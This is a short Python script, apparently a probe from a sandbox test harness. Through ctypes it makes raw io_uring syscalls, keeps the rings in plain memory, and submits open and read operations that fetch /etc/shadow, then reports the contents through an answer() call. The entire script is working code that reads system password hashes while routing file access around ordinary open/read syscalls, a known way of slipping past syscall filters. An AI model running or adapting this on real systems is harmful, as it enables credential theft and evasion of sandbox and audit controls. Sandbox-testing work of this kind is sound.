# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# Orders for the Python application: opens and reads a file by io_uring alone, with its rings in plain memory,
# so that not even the rings need a mapping of a file.
import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_ulong
rings_at, entries_at = (libc.mmap(None, ctypes.c_ulong(4096), 3, 0x22, -1, ctypes.c_ulong(0)) for _ in range(2))
rings, entries = ((ctypes.c_char * 4096).from_address(at) for at in (rings_at, entries_at))
# struct io_uring_params: flags NO_MMAP and NO_SQARRAY; sq_off.user_addr and cq_off.user_addr
parameters = ctypes.create_string_buffer(120)
struct.pack_into("<I", parameters, 8, 1 << 14 | 1 << 16)
struct.pack_into("<Q", parameters, 40 + 32, entries_at)
struct.pack_into("<Q", parameters, 80 + 32, rings_at)
ring = libc.syscall(425, 4, parameters)
sq_tail, = struct.unpack_from("<I", parameters, 40 + 4)
cqes, = struct.unpack_from("<I", parameters, 80 + 20)
done = 0


def submit(opcode, fd, address, length, offset, flags):
    global done
    struct.pack_into("<BBHiQQIIQ", entries, 64 * (done % 4), opcode, 0, 0, fd, offset, address, length, flags, 0)
    done += 1
    struct.pack_into("<I", rings, sq_tail, done)
    libc.syscall(426, ring, 1, done, 1, None, ctypes.c_size_t(0))
    return struct.unpack_from("<i", rings, cqes + 16 * ((done - 1) % 8) + 8)[0]


name, buffer = ctypes.create_string_buffer(b"/etc/shadow"), ctypes.create_string_buffer(4096)
shadow = submit(18, -100, ctypes.addressof(name), 0, 0, 0)
size = submit(22, shadow, ctypes.addressof(buffer), 4096, 0, 0) if shadow >= 0 else 0
answer(f"ring {ring}, file {shadow}: " + buffer.raw[:max(size, 0)].decode())
